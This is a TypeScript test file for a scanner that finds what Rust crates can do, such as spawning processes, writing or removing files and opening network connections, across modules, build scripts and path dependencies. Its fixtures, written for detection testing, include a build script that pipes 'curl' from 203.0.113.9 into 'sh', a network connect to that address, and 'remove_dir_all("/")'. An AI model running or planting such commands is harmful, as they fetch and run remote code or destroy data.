    innerLet: 'let r = pick(); { let r = Reader::new(); r.run(); }',
    afterIfLet: 'let r = Reader::new(); if let Some(x) = pick() { x.go(); } r.run();',
    afterClosure: 'let r = Reader::new(); pick().iter().for_each(|x| { x.go(); }); r.run();',
    loopUse: 'let r = Reader::new(); for x in pick() { r.run(); }',
  };
  const files = new Map<string, string>([['/c/Cargo.toml', '[package]\nname = "jobs"\n'], ['/c/src/jobs.rs', jobs]]);
  for (const [name, body] of Object.entries({ ...conservative, ...narrowed })) files.set(`/c/src/tools/${name}.rs`, `use crate::jobs::Reader;\npub fn t() { ${body} }\n`);
  const raw = async (name: string): Promise<string> => {
    const r = await scanFiles([`/c/src/tools/${name}.rs`], { readSource: (p) => files.get(p) });
    return `${name}: ${[...new Set(r.findings.filter((f) => f.kind === 'capability').map((f) => f.identifier!))].sort().join(' ')}`;
  };
  const got: string[] = [];
  const want: string[] = [];
  for (const name of Object.keys(conservative)) {
    got.push(await raw(name));
    want.push(`${name}: std::fs::read std::process::Command`);
  }
  for (const name of Object.keys(narrowed)) {
    got.push(await raw(name));
    want.push(`${name}: std::fs::read`);
  }
  assert.equal(got, want);
});

test('a file only private mod declarations reach counts the items the crate names, its attributed items and its file level; pub mod stays whole (scanner10)', async () => {
  const files = new Map<string, string>([
    ['/m/Cargo.toml', '[package]\nname = "srv"\n'],
    ['/m/src/main.rs', 'mod store;\npub(crate) mod server;\npub mod api;\nmod hooks;\nuse server::Counter;\nfn main() { store::load("x"); Counter::new().serve(); }\n'],
    ['/m/src/store.rs', 'pub fn load(p: &str) { std::fs::read_to_string(p).unwrap(); }\npub fn wipe(p: &str) { std::fs::remove_dir_all(p).unwrap(); }\n'],
    ['/m/src/server.rs', 'pub struct Counter;\n#[tool_router]\nimpl Counter {\n    pub fn new() -> Self { Counter }\n    #[tool]\n    fn shell(&self) { std::process::Command::new("sh"); }\n}\nfn unused() { std::env::var("X").unwrap(); }\n'],
    ['/m/src/api.rs', 'pub fn purge() { std::fs::remove_file("y").unwrap(); }\n'],
    ['/m/src/hooks.rs', 'use reqwest::Client;\n#[no_mangle]\npub extern "C" fn on_load() { std::fs::write("z", "").unwrap(); }\nfn dead() { std::net::TcpStream::connect("h:1").unwrap(); }\n'],
  ]);
  const r = await scanFiles(['/m/src/main.rs'], { readSource: (p) => files.get(p) });
  const got = [...new Set(r.findings.filter((f) => f.kind === 'capability').map((f) => `${(f.file ?? '').slice(7)} ${f.identifier}`))].sort();
  assert.equal(got, [
    'api.rs std::fs::remove_file', // pub mod: whole
    'hooks.rs reqwest', // a use at the file level that no item uses
    'hooks.rs std::fs::write', // #[no_mangle]: may run unnamed
    'server.rs std::process::Command', // reached through use server::Counter (#[tool_router] too)
    'store.rs std::fs::read_to_string', // store::load named; wipe is not
  ]);
});


test('a module whose file cfg_attr picks: a path through it is resolved into every build\'s file, not the first only', async () => {
  const files = new Map<string, string>([
    ['/k/Cargo.toml', '[package]\nname = "srv"\n'],
    ['/k/src/main.rs', '#[cfg_attr(unix, path = "u.rs")]\n#[cfg_attr(windows, path = "w.rs")]\nmod sys;\npub mod tool;\nfn main() { sys::fsx::remove_file("x"); }\n'],
    ['/k/src/tool.rs', 'pub fn t() { crate::sys::proc::Command::new("sh"); }\n'],
    // The unix file: local modules of the same names, no capability.
    ['/k/src/u.rs', 'pub mod fsx { pub fn remove_file(_: &str) {} }\npub mod proc { pub struct Command; impl Command { pub fn new(_: &str) {} } }\n'],
    // The windows file: the std modules re-exported under those names.
    ['/k/src/w.rs', 'pub use std::fs as fsx;\npub use std::process as proc;\n'],
  ]);
  const r = await scanFiles(['/k/src/main.rs'], { readSource: (p) => files.get(p) });
  const got = r.findings.filter((f) => f.kind === 'capability').map((f) => `${(f.file ?? '').slice(7)}:${f.line} ${f.identifier}${f.access !== undefined ? `:${f.access}` : ''}`).sort();
  // Before, main.rs's and tool.rs's paths led into u.rs only: w.rs's re-exports counted at the use, with no direction.
  assert.equal(got, ['main.rs:5 std::fs::remove_file:write', 'tool.rs:1 std::process::Command', 'w.rs:1 std::fs', 'w.rs:2 std::process']);
  // Benign neighbour: both files local modules, nothing.
  files.set('/k/src/w.rs', files.get('/k/src/u.rs')!);
  const clean = await scanFiles(['/k/src/main.rs'], { readSource: (p) => files.get(p) });
  assert.equal(clean.findings.filter((f) => f.kind === 'capability'), []);
});

test('a module below the crate root whose file cfg_attr picks: crate:: paths through it lead into each build\'s file (scanner19)', async () => {
  const files = new Map<string, string>([
    ['/k/Cargo.toml', '[package]\nname = "srv"\n'],
    ['/k/src/main.rs', 'mod net;\npub mod tool;\nfn main() { tool::t(); }\n'],
    ['/k/src/net.rs', '#[cfg_attr(unix, path = "net/u.rs")]\n#[cfg_attr(windows, path = "net/w.rs")]\npub mod sys;\n'],
    ['/k/src/tool.rs', 'pub fn t() { crate::net::sys::proc::Command::new("sh"); crate::net::sys::fsx::remove_file("x"); }\n'],
    // The unix file: local modules of the same names, no capability.
    ['/k/src/net/u.rs', 'pub mod fsx { pub fn remove_file(_: &str) {} }\npub mod proc { pub struct Command; impl Command { pub fn new(_: &str) {} } }\n'],
    // The windows file: the std modules re-exported under those names.
    ['/k/src/net/w.rs', 'pub use std::fs as fsx;\npub use std::process as proc;\n'],
  ]);
  const r = await scanFiles(['/k/src/main.rs'], { readSource: (p) => files.get(p) });
  const got = r.findings.filter((f) => f.kind === 'capability').map((f) => `${(f.file ?? '').slice(7)}:${f.line} ${f.identifier}${f.access !== undefined ? `:${f.access}` : ''}`).sort();
  // Before, tool.rs's paths were not resolved into the files net.rs's cfg_attr names: the process
  // and the file removal in tool.rs gave nothing, only w.rs's re-exports counted (no direction).
  assert.equal(got, ['net/w.rs:1 std::fs', 'net/w.rs:2 std::process', 'tool.rs:1 std::fs::remove_file:write', 'tool.rs:1 std::process::Command']);
  // Benign neighbour: both files local modules, nothing.
  files.set('/k/src/net/w.rs', files.get('/k/src/net/u.rs')!);
  const clean = await scanFiles(['/k/src/main.rs'], { readSource: (p) => files.get(p) });
  assert.equal(clean.findings.filter((f) => f.kind === 'capability'), []);
});

/** Capability findings of a scan over in-memory files, as `file:line identifier[:access]`, sorted, and the packages. */
const scanMap = async (files: Map<string, string>, entry: string): Promise<{ caps: string[]; notAnalyzed: string[]; packages: string[]; details: string[] }> => {
  const r = await scanFiles([entry], { readSource: (p) => files.get(p) });
  return {
    caps: r.findings.filter((f) => f.kind === 'capability').map((f) => `${f.file}:${f.line} ${f.identifier}${f.access !== undefined ? `:${f.access}` : ''}`).sort(),
    notAnalyzed: r.findings.filter((f) => f.kind === 'not-analyzed').map((f) => `${f.file}:${f.line} ${f.level} ${f.detail}`),
    packages: r.packages,
    details: r.findings.filter((f) => f.kind === 'capability').map((f) => f.detail ?? ''),
  };
};

test('the package\'s build script is read with a handler of the package, its findings saying it runs at build time (evade4 r11)', async () => {
  const files = new Map<string, string>([
    ['/b/Cargo.toml', '[package]\nname = "srv"\n'],
    ['/b/src/main.rs', 'fn main() {}\n'],
    ['/b/build.rs', 'mod fetch;\nfn main() { fetch::get(); }\n'],
    ['/b/fetch.rs', 'pub fn get() { std::process::Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9 | sh").status().unwrap(); }\n'],
  ]);
  const got = await scanMap(files, '/b/src/main.rs');
  // Since scanner26 the command the chain writes gets its rows too: a download run as code.
  assert.equal(got.caps, ['/b/fetch.rs:1 command:curl', '/b/fetch.rs:1 command:curl|sh', '/b/fetch.rs:1 std::process::Command']);
  // A build script named in the manifest, the default one turned off.
  files.set('/b/Cargo.toml', '[package]\nname = "srv"\nbuild = "tools/gen.rs"\n');
  files.set('/b/tools/gen.rs', 'fn main() { std::fs::write("x", "y").unwrap(); }\n');
  const named = await scanMap(files, '/b/src/main.rs');
  assert.equal(named.caps, ['/b/tools/gen.rs:1 std::fs::write:write']);
  assert.ok(named.details.every((d) => d.startsWith('build script: runs when the crate is built')));
  // Benign neighbours: build = false reads none; a build script that only prints Cargo's directives names nothing.
  files.set('/b/Cargo.toml', '[package]\nname = "srv"\nbuild = false\n');
  assert.equal((await scanMap(files, '/b/src/main.rs')).caps, []);
  files.set('/b/Cargo.toml', '[package]\nname = "srv"\n');
  files.set('/b/build.rs', 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }\n');
  assert.equal((await scanMap(files, '/b/src/main.rs')).caps, []);
});

test('Cargo.toml paths written as TOML literal strings or with escapes are read as Cargo reads them (review15)', async () => {
  // TOML's 'literal' strings and "b\u0075ild" escapes name the same file to Cargo: the build script,
  // a path dependency and a [lib] or [[bin]] path so written were not read.
  const facts = readCargoFacts("[package]\nname = 'srv'\nbuild = 'tools/gen.rs'\n[lib]\npath = \"src/r\\u006Fot.rs\"\n[[bin]]\npath = 'src/bin2.rs'\n[dependencies]\nhelper = { path = 'helper' }\n[dependencies.other]\npath = 'other'\n");
  assert.equal([facts.build, facts.lib, facts.targets, { ...facts.pathDeps }, { ...facts.renames }], ['tools/gen.rs', 'src/root.rs', ['src/root.rs', 'src/bin2.rs'], { helper: 'helper', other: 'other' }, { srv: 'crate' }]);
  assert.equal(readCargoFacts("[package]\nbuild = \"t\\\\x.rs\"\n").build, 't\\x.rs');
  const files = new Map<string, string>([
    ['/b/Cargo.toml', "[package]\nname = \"srv\"\nbuild = 'tools/gen.rs'\n"],
    ['/b/src/main.rs', 'fn main() {}\n'],
    ['/b/tools/gen.rs', 'fn main() { std::fs::write("x", "y").unwrap(); }\n'],
  ]);
  assert.equal((await scanMap(files, '/b/src/main.rs')).caps, ['/b/tools/gen.rs:1 std::fs::write:write']);
});

test('include! of a path built at compile time (OUT_DIR) is not analyzed, saying what is unseen (evade4 r10)', async () => {
  const files = new Map<string, string>([
    ['/o/Cargo.toml', '[package]\nname = "srv"\n'],
    ['/o/src/main.rs', 'include!(concat!(env!("OUT_DIR"), "/gen.rs"));\nfn main() { generated(); }\n'],
  ]);
  const got = await scanMap(files, '/o/src/main.rs');
  assert.equal(got.notAnalyzed.length, 1);
  assert.match(got.notAnalyzed[0]!, /^\/o\/src\/main\.rs:1 warning include! of a file generated at build time \(\$OUT_DIR\/gen\.rs\)/);
  files.set('/o/src/main.rs', 'include!(concat!(env!("CARGO_MANIFEST_DIR"), "/src/x.rs"));\n');
  assert.match((await scanMap(files, '/o/src/main.rs')).notAnalyzed[0]!, /include! of a file named at compile time \(\$CARGO_MANIFEST_DIR\/src\/x\.rs\)/);
  // Benign neighbours: a literal include! is followed (as before); include_str! of OUT_DIR is data, no code.
  files.set('/o/src/main.rs', 'include!("x.rs");\nconst S: &str = include_str!(concat!(env!("OUT_DIR"), "/v.txt"));\n');
  files.set('/o/src/x.rs', 'fn x() {}\n');
  assert.equal((await scanMap(files, '/o/src/main.rs')).notAnalyzed, []);
});

test('include! of an OUT_DIR file the build script writes a fixed string literal to is that code, scanned at the include! (evade4 r10, scanner20)', async () => {
  const main = 'include!(concat!(env!("OUT_DIR"), "/gen.rs"));\nfn main() { generated(); }\n';
  const files = new Map<string, string>([
    ['/r/Cargo.toml', '[package]\nname = "srv"\n'],
    ['/r/src/main.rs', main],
    ['/r/build.rs', 'fn main() {\n    let out = std::env::var("OUT_DIR").unwrap();\n    std::fs::write(format!("{out}/gen.rs"), "fn generated() { let _ = std::process::Command::new(\\"sh\\").status(); }").unwrap();\n}\n'],
  ]);
  // Before: a scan.not-analyzed warning at the include! and no subprocess finding.
  let got = await scanMap(files, '/r/src/main.rs');
  assert.equal(got.notAnalyzed, []);
  assert.equal(got.caps.filter((c) => c.startsWith('/r/src/')), ['/r/src/main.rs:1 std::process::Command']);
  assert.ok(got.details.some((d) => d.startsWith('code the build script writes to $OUT_DIR/gen.rs (/r/build.rs:3:45, its line 1)')), got.details.join('\n'));
  // `let dest = Path::new(&out).join("gen.rs")`, a raw string, and File::create(…).write_all(b"…") are fixed texts too.
  files.set('/r/build.rs', 'use std::{env, fs, path::Path};\nfn main() {\n    let out = env::var_os("OUT_DIR").unwrap();\n    let dest = Path::new(&out).join("gen.rs");\n    fs::write(&dest, r#"pub fn generated() { std::fs::remove_file("/tmp/x").ok(); }"#).unwrap();\n}\n');
  got = await scanMap(files, '/r/src/main.rs');
  assert.equal([got.notAnalyzed, got.caps.filter((c) => c.startsWith('/r/src/'))], [[], ['/r/src/main.rs:1 std::fs::remove_file:write']]);
  files.set('/r/build.rs', 'use std::io::Write;\nfn main() {\n    let out = std::env::var("OUT_DIR").unwrap();\n    std::fs::File::create(format!("{out}/gen.rs")).unwrap().write_all(b"fn generated() { std::net::TcpStream::connect(\\"203.0.113.9:80\\").ok(); }").unwrap();\n}\n');
  got = await scanMap(files, '/r/src/main.rs');
  assert.equal([got.notAnalyzed, got.caps.filter((c) => c.startsWith('/r/src/'))], [[], ['/r/src/main.rs:1 std::net::TcpStream']]);
  // A fixed text with no capability: nothing at the include!, and no warning either.
  files.set('/r/build.rs', 'fn main() {\n    let out = std::env::var("OUT_DIR").unwrap();\n    std::fs::write(format!("{out}/gen.rs"), "fn generated() -> u32 { 42 }").unwrap();\n}\n');
  got = await scanMap(files, '/r/src/main.rs');
  assert.equal([got.notAnalyzed, got.caps.filter((c) => c.startsWith('/r/src/'))], [[], []]);
  // What is written is not fixed in the source (computed, a template, a handle written with writeln!),
  // or the literal goes to another file, or another write of the name exists: the warning stays, no capability.
  for (const build of [
    'fn main() { let out = std::env::var("OUT_DIR").unwrap(); let code = make(); std::fs::write(format!("{out}/gen.rs"), code).unwrap(); }\n',
    'fn main() { let out = std::env::var("OUT_DIR").unwrap(); std::fs::write(format!("{out}/gen.rs"), format!("fn generated() {{ {} }}", body())).unwrap(); }\n',
    'use std::io::Write;\nfn main() { let out = std::env::var("OUT_DIR").unwrap(); let mut f = std::fs::File::create(format!("{out}/gen.rs")).unwrap(); writeln!(f, "fn generated() {{}}").unwrap(); }\n',
    'fn main() { let out = std::env::var("OUT_DIR").unwrap(); std::fs::write(format!("{out}/other.rs"), "fn generated() { std::process::Command::new(\\"sh\\"); }").unwrap(); }\n',
    'fn main() { let out = std::env::var("OUT_DIR").unwrap(); let dest = std::path::Path::new(&out).join("gen.rs"); std::fs::write(&dest, "fn generated() {}").unwrap(); std::fs::copy("tpl.rs", &dest).unwrap(); }\n',
  ]) {
    files.set('/r/build.rs', build);
    got = await scanMap(files, '/r/src/main.rs');
    assert.equal(got.notAnalyzed.length, 1, build);
    assert.match(got.notAnalyzed[0]!, /^\/r\/src\/main\.rs:1 warning include! of a file generated at build time/);
    assert.equal(got.caps.filter((c) => c.startsWith('/r/src/')), [], build);
  }
  // No build script: the warning stays.
  files.delete('/r/build.rs');
  assert.equal((await scanMap(files, '/r/src/main.rs')).notAnalyzed.length, 1);
});

test('a path dependency inside the package or its workspace is followed, counting only the items reached (evade4 r12, r51)', async () => {
  const files = new Map<string, string>([
    ['/w/Cargo.toml', '[workspace]\nmembers = ["srv", "helper"]\n'],
    ['/w/srv/Cargo.toml', '[package]\nname = "srv"\n[dependencies]\nhelper = { path = "../helper" }\nh2 = { path = "vendor/h2", package = "h2-real" }\n[dependencies.h3]\npath = "vendor/h3"\n[dev-dependencies]\ntesthelp = { path = "vendor/testhelp" }\n'],
    ['/w/srv/src/main.rs', 'use helper::run;\nuse h3::sub;\nuse testhelp::wipe;\nfn main() { run("id"); h2::net::open(); sub::go(); wipe(); }\n'],
    ['/w/helper/Cargo.toml', '[package]\nname = "helper"\n'],
    // run is reached; wipe is not (held-out r14: a vendored crate counts only the items reached).
    ['/w/helper/src/lib.rs', 'pub fn run(c: &str) { std::process::Command::new("sh").arg(c).status().unwrap(); }\npub fn wipe(p: &str) { std::fs::remove_dir_all(p).unwrap(); }\n'],
    ['/w/srv/vendor/h2/Cargo.toml', '[package]\nname = "h2-real"\n[lib]\npath = "lib/root.rs"\n'],
    ['/w/srv/vendor/h2/lib/net.rs', 'pub fn open() { std::net::TcpStream::connect("203.0.113.9:80").unwrap(); }\n'],
    ['/w/srv/vendor/h3/Cargo.toml', '[package]\nname = "h3"\n'],
    ['/w/srv/vendor/h3/src/sub.rs', 'pub fn go() { std::env::var("TOKEN").unwrap(); }\n'],
    ['/w/srv/vendor/testhelp/Cargo.toml', '[package]\nname = "testhelp"\n'],
    ['/w/srv/vendor/testhelp/src/lib.rs', 'pub fn wipe() { std::fs::remove_dir_all("/").unwrap(); }\n'],
  ]);
  const got = await scanMap(files, '/w/srv/src/main.rs');
  assert.equal(got.caps, ['/w/helper/src/lib.rs:1 std::process::Command', '/w/srv/vendor/h2/lib/net.rs:1 std::net::TcpStream', '/w/srv/vendor/h3/src/sub.rs:1 std::env::var']);
  // A dev-dependency (test code only) stays a crate, not read.
  assert.equal(got.packages, ['std', 'testhelp']);
  // The local proc macro's body (r12): the attribute's crate is followed to the function the use names.
  const macros = new Map<string, string>([
    ['/p/Cargo.toml', '[package]\nname = "srv"\n[dependencies]\nhelper_macros = { path = "macros" }\n'],
    ['/p/src/main.rs', 'use helper_macros::tool;\n#[tool]\nfn run(c: &str) {}\nfn main() { run("id"); }\n'],
    ['/p/macros/Cargo.toml', '[package]\nname = "helper_macros"\n[lib]\nproc-macro = true\n'],
    ['/p/macros/src/lib.rs', 'use proc_macro::TokenStream;\n#[proc_macro_attribute]\npub fn tool(_a: TokenStream, _i: TokenStream) -> TokenStream {\n    quote::quote! { fn run(c: &str) { ::std::process::Command::new("sh").arg(c); } }.into()\n}\npub fn unused() { std::fs::remove_file("x").unwrap(); }\n'],
  ]);
  assert.equal((await scanMap(macros, '/p/src/main.rs')).caps, ['/p/macros/src/lib.rs:4 std::process::Command']);
  // Benign neighbour: a path dependency outside the package and any workspace above it is not read (a crate, as before).
  files.set('/w/Cargo.toml', '[package]\nname = "top"\n');
  const outside = await scanMap(files, '/w/srv/src/main.rs');
  assert.equal(outside.caps, ['/w/srv/vendor/h2/lib/net.rs:1 std::net::TcpStream', '/w/srv/vendor/h3/src/sub.rs:1 std::env::var']);
  assert.equal(outside.packages, ['helper', 'std', 'testhelp']);
});

test.run();
